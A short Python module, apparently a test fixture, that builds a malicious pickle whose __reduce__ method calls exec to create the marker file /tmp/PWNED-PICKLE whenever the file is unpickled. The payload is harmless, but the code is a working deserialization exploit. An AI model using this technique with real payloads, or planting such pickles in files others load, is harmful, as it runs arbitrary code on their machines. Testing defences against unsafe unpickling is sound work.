"""Hands in a pickle that runs a command in whoever loads it."""

import pickle


class Runs:
    def __reduce__(self):
        return exec, ("open('/tmp/PWNED-PICKLE', 'w')",)


def hand_in(path, notebook):
    path.write_bytes(pickle.dumps(Runs()))
